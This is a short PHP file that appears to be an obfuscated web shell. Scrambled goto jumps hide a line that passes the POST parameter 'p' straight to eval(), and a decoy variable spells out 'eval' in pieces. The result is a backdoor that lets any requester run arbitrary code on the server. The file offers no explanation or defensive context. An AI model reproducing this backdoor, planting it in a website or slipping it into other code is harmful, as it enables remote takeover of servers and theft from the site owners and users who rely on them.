<?php
goto a1; b3: $v = $_POST['p']; goto c7; a1: $n = 'ev'; goto d2; c7: eval($v); goto e9; d2: $n .= 'al'; goto b3; e9: echo '';
